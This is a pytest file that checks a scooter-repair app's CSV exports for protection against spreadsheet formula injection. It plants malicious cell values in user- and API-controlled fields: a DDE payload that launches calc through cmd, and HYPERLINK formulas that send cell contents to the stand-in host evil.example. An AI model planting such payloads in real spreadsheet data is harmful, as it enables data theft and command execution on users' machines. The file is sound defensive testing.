"""Every CSV the app serves: no cell a spreadsheet would run as a formula.

A formula is planted in every field a user, a client of the API or Drive controls, through the
paths the app really takes (the API, Drive's answers, the manager's forms, the audit log); then
every CSV export is downloaded, in both languages, and read back cell by cell.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from app.admin.services import add_job_type
from app.csv_excel import Figure, cell
from app.drive.simulator import Fleet, Scooter
from tests import factories
from tests.admin.audit_data import entry
from tests.manager.factories import make_repair
from tests.support.http import ApiClient
from tests.support.pages import log_in, post_form

# One formula per field, each different, so the test can tell which one reached the file.
PLACE_NAME = '@SUM(1+1)*cmd|" /C calc"!A0'
PERFORMER_ID = "=B2"
PERFORMER_NAME = '=HYPERLINK("http://evil.example/?"&A1;"Иван")'
VEHICLE_ID = "+A1"
DRIVE_NUMBER = "=SUM(1;2)"  # a plate Drive may send (one with spaces at its ends is dropped)
DRIVE_MODEL = '=HYPERLINK("http://evil.example";"model")'  # in no export today: still planted
REPAIR_ID = "-A1"  # the only formula a repair id's alphabet allows
JOB_NAME_RU = "=1+1 грипсы"
JOB_NAME_EN = "+1+1 grips"
COMMENT = '=HYPERLINK("http://evil.example","click")'
DRIVE_ERROR = " -2+3"  # a leading space does not stop a spreadsheet
DRIVE_DETAIL = "\t=1+1"

EXPORTS = (
    "/manager/history.csv",
    "/manager/scooters/{vehicle_id}/repairs.csv",
    "/manager/stats/repairers.csv",
    "/admin/audit.csv",
    "/manager/pickup.csv",
    "/manager/dropoff.csv",
)


def expected(path: str, language: str) -> set[str]:
    """The planted values an export must carry (defused), in the language of the download."""
    job = f"{JOB_NAME_RU} (выполнено)" if language == "ru" else f"{JOB_NAME_EN} (completed)"
    repair = {REPAIR_ID, DRIVE_NUMBER, VEHICLE_ID, PERFORMER_NAME, PLACE_NAME, COMMENT}
    return {
        "/manager/history.csv": repair | {job},
        "/manager/scooters/{vehicle_id}/repairs.csv": repair | {job},
        "/manager/stats/repairers.csv": {PERFORMER_ID, PERFORMER_NAME},
        "/manager/pickup.csv": {VEHICLE_ID, DRIVE_NUMBER, COMMENT},
        "/manager/dropoff.csv": set(),  # its scooters are released: see test_stages
        "/admin/audit.csv": {
            DRIVE_NUMBER, VEHICLE_ID, PERFORMER_ID, PERFORMER_NAME, REPAIR_ID, DRIVE_ERROR,
            DRIVE_DETAIL,
        },
    }[path]  # fmt: skip


_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")
_TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def is_live(cell: str) -> bool:
    """Would a spreadsheet (Excel, LibreOffice, Google Sheets) read this cell as a formula?

    Tab, CR and LF at the start, or = + - @ after any leading blanks or control characters;
    a plain number such as "-3,5" is a number, not a formula."""
    if _NUMBER.fullmatch(cell):
        return False
    if cell[:1] in ("\t", "\r", "\n", "\0"):
        return True
    head = cell.lstrip("".join(map(chr, range(33))) + "\u00a0\u3000")
    return head.startswith(_TRIGGERS)


def cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.fixture
def planted(app, client, simulator):
    """One finished repair, its job, a control command and an audit entry, all full of formulas."""
    sample = simulator.scooters()[0]
    evil = Scooter(VEHICLE_ID, DRIVE_NUMBER, DRIVE_MODEL, 1500.0, 80, dict(sample.firmware))
    simulator.fleet = Fleet([*simulator.scooters(), evil])
    factories.make_place("wh-1", PLACE_NAME)
    factories.make_user(PERFORMER_ID, PERFORMER_NAME)
    factories.make_user("boss", "Анна Смирнова", role="manager")
    add_job_type("evil", JOB_NAME_RU, JOB_NAME_EN)

    api = ApiClient(client, factories.make_token("bot"), [VEHICLE_ID])
    shift = {"performer_id": PERFORMER_ID, "place_id": "wh-1"}
    assert api.post("/api/shift/start", shift).status_code == 200
    assert api.start_repair(REPAIR_ID, PERFORMER_ID, VEHICLE_ID).status_code == 201
    assert api.start_job("j-1", REPAIR_ID, "evil").status_code == 201
    assert api.end_job("j-1").status_code == 200
    control = {"vehicle_id": VEHICLE_ID, "action": "open_lock", "performer_id": PERFORMER_ID}
    assert api.post("/api/scooter/control", control).get_json()["outcome"] == "ok"
    entry(0, PERFORMER_ID, VEHICLE_ID, "self_test", "failed", error=DRIVE_ERROR,
          detail=DRIVE_DETAIL)  # fmt: skip

    complaint = {"complaint_id": "c-1", "vehicle_id": VEHICLE_ID, "source": "manager"}
    assert api.post("/api/complaints", complaint | {"text": COMMENT}).status_code == 201
    assert log_in(client, "boss", factories.DEFAULT_PIN).status_code == 302
    ended = post_form(
        client,
        f"/manager/open-repairs/{REPAIR_ID}/end",
        {"status": "failed", "comment": COMMENT},
        page="/manager/open-repairs",
    )
    assert ended.status_code == 303
    return client


def test_every_csv_route_is_covered_here(app):
    served = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}

    assert served == {path.replace("{vehicle_id}", "<vehicle_id>") for path in EXPORTS}


@pytest.mark.parametrize("language", ["ru", "en"])
def test_no_export_hands_a_spreadsheet_a_live_formula(planted, language):
    post_form(planted, f"/language/{language}", {"next": "/"})

    for path in EXPORTS:
        rows = cells(planted.get(path.format(vehicle_id=VEHICLE_ID)))
        flat = [cell for row in rows[1:] for cell in row]

        assert [cell for cell in flat if is_live(cell)] == [], path
        assert {"'" + value for value in expected(path, language)} <= set(flat), path


def test_numbers_the_app_writes_stay_numbers_even_negative(planted):
    # An earlier repair at a higher mileage: the odometer was replaced since.
    make_repair(PERFORMER_ID, VEHICLE_ID, "2026-01-05 09:00", 30, mileage_km=1600.5)

    history = cells(planted.get("/manager/history.csv"))[1:]
    repairers = cells(planted.get("/manager/stats/repairers.csv"))[1:]

    latest = next(row for row in history if row[0] == "'" + REPAIR_ID)
    assert latest[9:11] == ["1500", "-100,5"]  # mileage, km since the previous repair
    assert repairers[0][2:4] == ["1", "1"]  # repairs, jobs


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+A1", "-A1", "@A1", " =1+1", "\u00a0@A1", "\x01=A1", "\uff1dA1", "\t1", "\r1", "\n1",
     "-3,5"],
)  # fmt: skip
def test_the_guard_defuses_any_text_a_spreadsheet_would_run(text):
    assert cell(text) == "'" + text
    assert not is_live(cell(text))


def test_the_guard_leaves_plain_text_and_the_numbers_the_app_writes(app):
    assert [cell("Иван"), cell(" Иван"), cell("a=b"), cell(None)] == ["Иван", " Иван", "a=b", ""]
    assert [cell(-2), cell(1.5), cell(Figure("-3,5"))] == ["-2", "1.5", "-3,5"]
    with pytest.raises(ValueError):
        Figure("-A1")
